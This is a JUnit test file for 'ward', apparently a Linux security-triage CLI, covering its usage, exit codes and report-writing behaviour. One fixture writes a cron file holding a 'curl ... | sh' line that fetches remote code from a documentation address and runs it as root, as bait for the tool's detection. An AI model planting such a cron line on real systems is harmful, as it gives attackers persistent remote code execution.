package dev.ward.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The command line as users meet it: usage, version, help, exit codes, reports written to files. */
class MainTest {
    @TempDir
    Path dir;

    record Run(int status, String out, String err) {
    }

    static Run ward(String... args) {
        PrintStream oldOut = System.out;
        PrintStream oldErr = System.err;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        try {
            System.setOut(new PrintStream(out, true, StandardCharsets.UTF_8));
            System.setErr(new PrintStream(err, true, StandardCharsets.UTF_8));
            var cl = WardCommand.commandLine();
            cl.setOut(new java.io.PrintWriter(System.out, true));
            cl.setErr(new java.io.PrintWriter(System.err, true));
            int status = cl.execute(args);
            return new Run(status, out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8));
        } finally {
            System.setOut(oldOut);
            System.setErr(oldErr);
        }
    }

    @Test
    void bareWardPrintsUsage() {
        Run r = ward();
        assertEquals(0, r.status());
        assertTrue(r.out().startsWith("Usage: ward"), r.out());
        assertTrue(r.out().contains("triage"));
    }

    @Test
    void versionAndHelp() {
        assertTrue(ward("--version").out().startsWith("ward "));
        for (String[] args : new String[][] {{"help", "triage"}, {"triage", "--help"}, {"checks", "show", "-h"}}) {
            Run help = ward(args);
            assertEquals(0, help.status(), String.join(" ", args));
            assertTrue(help.out().startsWith("Usage: ward "), help.out());
        }
        Run help = ward("help", "triage");
        assertTrue(help.out().contains("--root=DIR"), help.out());
        assertTrue(help.out().contains("--min-severity"), help.out());
    }

    @Test
    void completionScriptIsGenerated() {
        Run r = ward("generate-completion");
        assertEquals(0, r.status());
        assertTrue(r.out().contains("complete -F"), "a bash completion function");
        assertTrue(r.out().contains("triage"));
    }

    @Test
    void usageErrorsExit64WithOneLine() {
        Run r = ward("triage", "--format", "xml");
        assertEquals(64, r.status());
        assertTrue(r.err().startsWith("ward: "), r.err());
        assertTrue(r.err().contains("unknown format 'xml'"), r.err());
        assertEquals(64, ward("no-such-command").status());
    }

    @Test
    void aMissingRootExits66() {
        Run r = ward("triage", "--root", dir.resolve("absent").toString());
        assertEquals(66, r.status());
        assertEquals(1, r.err().lines().count(), r.err());
        assertTrue(r.err().contains("absent"), r.err());
    }

    @Test
    void triageWritesAJsonReportToAFileAndSetsTheFindingBit() throws Exception {
        Path root = dir.resolve("root");
        Files.createDirectories(root.resolve("etc"));
        Files.writeString(root.resolve("etc/passwd"), "root:x:0:0::/root:/bin/bash\na:x:1000:1000::/h:/bin/sh\nb:x:1000:1000::/h:/bin/sh\n");
        Files.writeString(root.resolve("etc/shadow"), "");
        Path report = dir.resolve("report.json");
        Run r = ward("triage", "--root", root.toString(), "--format", "json", "--output", report.toString());
        assertEquals(8, r.status() & 8, r.err());
        assertEquals("", r.out());
        JsonNode json = new ObjectMapper().readTree(report.toFile());
        assertEquals("ward", json.get("tool").asText());
        assertEquals(root.toString(), json.get("root").asText());
        boolean duplicate = false;
        for (JsonNode f : json.get("findings")) {
            duplicate |= f.get("check").asText().equals("linux.accounts.duplicate_uid");
        }
        assertTrue(duplicate, json.toString());
        try (var files = Files.list(dir)) {
            assertTrue(files.noneMatch(p -> p.getFileName().toString().endsWith(".part")), "no partial file left");
        }
    }

    /** -o /dev/null must not replace the host's /dev/null: a FIFO stands in for it, read meanwhile. */
    @Test
    void aReportToAFifoIsWrittenIntoItNotOverIt() throws Exception {
        Path fifo = dir.resolve("fifo");
        assertEquals(0, new ProcessBuilder("mkfifo", fifo.toString()).start().waitFor());
        var read = java.util.concurrent.CompletableFuture.supplyAsync(() -> {
            try {
                return Files.readString(fifo);
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
        Run r = ward("logs", "--root", dir.toString(), "--format", "json", "-o", fifo.toString(), "-q");
        assertTrue(r.status() < 64, r.err());
        String report = read.get(30, java.util.concurrent.TimeUnit.SECONDS);
        assertEquals("ward", new ObjectMapper().readTree(report).get("tool").asText());
        assertTrue(Files.readAttributes(fifo, java.nio.file.attribute.BasicFileAttributes.class).isOther(), "still a FIFO");
    }

    @Test
    void aReportThroughASymlinkReplacesTheFileItLeadsTo() throws Exception {
        Path file = Files.writeString(dir.resolve("old.json"), "old");
        Path link = Files.createSymbolicLink(dir.resolve("link.json"), file.getFileName());
        Run r = ward("logs", "--root", dir.toString(), "--format", "json", "-o", link.toString(), "-q");
        assertTrue(r.status() < 64, r.err());
        assertTrue(Files.isSymbolicLink(link), "the link is kept");
        assertEquals("ward", new ObjectMapper().readTree(file.toFile()).get("tool").asText());
    }

    /**
     * The partial file is made anew, never taken over: a link planted under the name it would have
     * (in a shared directory, say) is passed by, and what it leads to is left alone.
     */
    @Test
    void aLinkPlantedWhereThePartialFileGoesIsNotFollowed() throws Exception {
        Path victim = Files.writeString(dir.resolve("victim"), "keep");
        Path report = dir.resolve("report.json");
        Path planted = Files.createSymbolicLink(dir.resolve(".report.json." + ProcessHandle.current().pid() + ".part"), victim);
        Run r = ward("logs", "--root", dir.toString(), "--format", "json", "-o", report.toString(), "-q");
        assertTrue(r.status() < 64, r.err());
        assertEquals("keep", Files.readString(victim));
        assertEquals("ward", new ObjectMapper().readTree(report.toFile()).get("tool").asText());
        assertEquals("rw-------", java.nio.file.attribute.PosixFilePermissions.toString(Files.getPosixFilePermissions(report)));
        assertTrue(Files.isSymbolicLink(planted));
    }

    @Test
    void namesThatAreNotTextAreReportedEscaped() throws Exception {
        Path root = dir.resolve("root");
        Files.createDirectories(root.resolve("etc/cron.d"));
        Files.createDirectories(root.resolve("var/lib/dpkg/info"));
        Files.writeString(root.resolve("var/lib/dpkg/info/base-files.list"), "/.\n/etc\n");
        Files.writeString(root.resolve("etc/passwd"), "root:x:0:0::/root:/bin/bash\n");
        Files.writeString(root.resolve("etc/shadow"), "root:*:20000:0:99999:7:::\n");
        // A cron file whose name holds an invalid UTF-8 byte, a newline and a leading '-'.
        Process p = new ProcessBuilder("sh", "-c",
                "printf '* * * * * root curl -s http://198.51.100.7/x | sh\\n' > \"$(printf -- '-x\\377\\ny')\"")
                .directory(root.resolve("etc/cron.d").toFile()).start();
        assertEquals(0, p.waitFor());
        Path report = dir.resolve("report.json");
        Run r = ward("triage", "--root", root.toString(), "--format", "json", "-o", report.toString());
        assertEquals(8, r.status() & 8, r.err());
        JsonNode json = new ObjectMapper().readTree(report.toFile());
        boolean seen = false;
        for (JsonNode f : json.get("findings")) {
            seen |= f.get("paths").toString().contains("/etc/cron.d/-x\\\\xff\\\\ny");
        }
        assertTrue(seen, json.toString());
    }

    @Test
    void aRootWhoseNameIsNotTextIsGivenInTheEscapedForm() throws Exception {
        Process p = new ProcessBuilder("sh", "-c", "mkdir -p \"$(printf 'img\\377')/etc\" && echo 'root:x:0:0::/root:/bin/bash' > \"$(printf 'img\\377')/etc/passwd\"")
                .directory(dir.toFile()).start();
        assertEquals(0, p.waitFor());
        Path report = dir.resolve("report.json");
        Run r = ward("triage", "--root", dir + "/img\\xff", "--format", "json", "-o", report.toString());
        assertTrue(r.status() < 64, r.err());
        assertEquals(dir + "/img\\xff", new ObjectMapper().readTree(report.toFile()).get("root").asText());
    }

    /** A named command is made alone; anything else (help, an option, a mistyped name) gets them all. */
    @Test
    void onlyTheNamedCommandIsMade() {
        assertEquals(java.util.Set.of("logs"), WardCommand.commandLine("logs", "--root", "/").getSubcommands().keySet());
        assertTrue(WardCommand.commandLine("help").getSubcommands().keySet().containsAll(
                java.util.List.of("triage", "logs", "baseline", "generate-completion")));
        assertTrue(WardCommand.commandLine("tirage").getSubcommands().size() > 5);
        assertEquals(0, Main.run("logs", "--help"));
    }

    /** The AOT cache's training run: its log read, its JDK hashed, without a word on the console. */
    @Test
    void aotTraining() throws Exception {
        Run r = ward("aot-train", dir.toString());
        assertEquals(0, r.status(), r.err());
        JsonNode report = new ObjectMapper().readTree(dir.resolve("logs.json").toFile());
        assertTrue(report.get("summary").get("login_events").asLong() > 100_000, report.toString());
        assertTrue(Files.size(dir.resolve("db")) > 0);
        assertTrue(new ObjectMapper().readTree(dir.resolve("triage.json").toFile()).has("findings"));
    }

    /** ward procs on this host: its own process in the table, and a bad sample a usage error. */
    @Test
    void procs() throws Exception {
        Run r = ward("procs", "--sample", "200ms", "--format", "json", "-o", dir.resolve("p.json").toString(), "-q");
        JsonNode summary = new ObjectMapper().readTree(dir.resolve("p.json").toFile()).get("summary");
        long self = ProcessHandle.current().pid();
        boolean listed = false;
        for (JsonNode p : summary.get("processes")) {
            listed |= p.get("pid").asLong() == self && p.get("cpu").isNumber() && p.get("exe").asText().endsWith("/java");
        }
        assertTrue(listed, summary.toString());
        assertEquals(64, ward("procs", "--sample", "soon").status());
    }

    /** What runs is saved; a program started afterwards is reported as new; a broken baseline is a usage error. */
    @Test
    void procsBaseline() throws Exception {
        Path saved = dir.resolve("procs.baseline");
        // bit 16: a host may run a process even root may not read (a sandbox's or container's init)
        assertEquals(0, ward("procs", "--sample", "0", "--save-baseline", saved.toString(), "--min-severity", "critical",
                "-o", dir.resolve("r1.json").toString(), "-q").status() & ~(8 | 16));
        assertTrue(Files.readString(saved).startsWith("# ward procs baseline"));
        Path sleeper = dir.resolve("ward-sleeper");
        Files.copy(Path.of("/usr/bin/sleep"), sleeper);
        sleeper.toFile().setExecutable(true);
        Process p = new ProcessBuilder(sleeper.toString(), "600").start();
        try {
            Thread.sleep(300);
            ward("procs", "--sample", "0", "--baseline", saved.toString(), "--format", "json",
                    "-o", dir.resolve("r2.json").toString(), "-q");
            JsonNode findings = new ObjectMapper().readTree(dir.resolve("r2.json").toFile()).get("findings");
            java.util.List<String> unexpected = new java.util.ArrayList<>();
            for (JsonNode f : findings) {
                if (f.get("check").asText().equals("linux.procs.unexpected")) {
                    unexpected.add(f.get("evidence").get("exe").asText() + " " + f.get("pids"));
                }
            }
            assertTrue(unexpected.contains(sleeper + " [" + p.pid() + "]"), unexpected.toString());
        } finally {
            p.destroyForcibly();
        }
        Files.writeString(saved, "# a comment\nroot /usr/bin/sleep\n");
        Run bad = ward("procs", "--sample", "0", "--baseline", saved.toString());
        assertEquals(64, bad.status());
        assertTrue(bad.err().contains(saved + ":2: not user, executable and arguments"), bad.err());
    }
}
